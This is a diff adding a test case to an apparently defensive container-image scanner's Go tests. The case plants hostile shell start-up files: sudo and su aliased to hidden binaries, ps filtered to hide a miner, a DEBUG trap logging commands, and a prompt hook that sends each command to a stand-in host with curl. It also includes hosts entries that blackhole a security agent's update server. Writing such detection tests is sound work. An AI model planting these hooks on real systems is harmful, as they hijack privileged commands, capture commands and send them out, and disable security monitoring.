@@ -287,6 +287,35 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "persistence-point", path: "/home/app/.bashrc", layer: 1},
 		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/app", layer: 1})
 
+	// Shell start-up files: sudo made an alias of a hidden program, ps
+	// filtered through grep -v, su a function, a prompt hook sending each
+	// command out and a DEBUG trap running a hidden program; aliases that
+	// add options, a function of another name, ordinary prompt hooks and an
+	// EXIT trap cleaning a temporary file are not. The hosts file sinks a
+	// security agent's update server and a pool to loopback and null;
+	// localhost names, the machine's own, .local and .internal names and a
+	// public name at a real address are not.
+	add("test/t-shell", nil, nil, one(
+		ent{name: "etc/profile.d/sudo.sh", body: "alias sudo='/usr/lib/.cache/sudo'\nalias ll='ls -alF'\n"},
+		ent{name: "root/.bashrc", body: "alias ps='ps aux | grep -v kdevtmp'\nalias ls='ls --color=auto'\nalias sudo='sudo '\n" +
+			"su() { /usr/share/.s/su \"$@\"; }\nssh_agent_start() { eval \"$(ssh-agent -s)\"; }\nfunction ssh-add-keys { ssh-add -q; }\n"},
+		ent{name: "home/app/.bashrc", body: "export PROMPT_COMMAND='history -a; history 1 | curl -s -d @- http://198.51.100.7/k'\n"},
+		ent{name: "etc/bash.bashrc", body: "PROMPT_COMMAND='history -a; printf \"\\033]0;%s\\007\" \"$PWD\"'\n" +
+			"trap 'rm -f /tmp/prompt.$$' EXIT\ntrap '/var/lib/.k/log \"$BASH_COMMAND\"' DEBUG\n"},
+		ent{name: "etc/hosts", body: "127.0.0.1 localhost\n::1 localhost ip6-localhost ip6-loopback\n127.0.1.1 buildhost\n" +
+			"127.0.0.1 update.aegis.aliyun.com\n0.0.0.0 pool.minexmr.example.net.\n127.0.0.1 app.local db.internal\n203.0.113.5 api.example.com\n"}),
+		hit{rule: "shell-command-hijacked", path: "/etc/profile.d/sudo.sh", layer: 1},
+		hit{rule: "shell-command-hijacked", path: "/root/.bashrc", layer: 1},
+		hit{rule: "shell-command-hijacked", path: "/root/.bashrc", layer: 1},
+		hit{rule: "shell-hook-runs-program", path: "/home/app/.bashrc", layer: 1},
+		hit{rule: "shell-hook-runs-program", path: "/etc/bash.bashrc", layer: 1},
+		hit{rule: "hosts-sinks-public-name", path: "/etc/hosts", layer: 1},
+		hit{rule: "hosts-sinks-public-name", path: "/etc/hosts", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/profile.d/sudo.sh", layer: 1},
+		hit{rule: "persistence-point", path: "/root/.bashrc", layer: 1},
+		hit{rule: "persistence-point", path: "/home/app/.bashrc", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/bash.bashrc", layer: 1})
+
 	// Labels runlabel runs on the host: privileged with the host's root,
 	// and one fetching code; an ordinary RUN label and other labels naming
 	// the same flags are not.
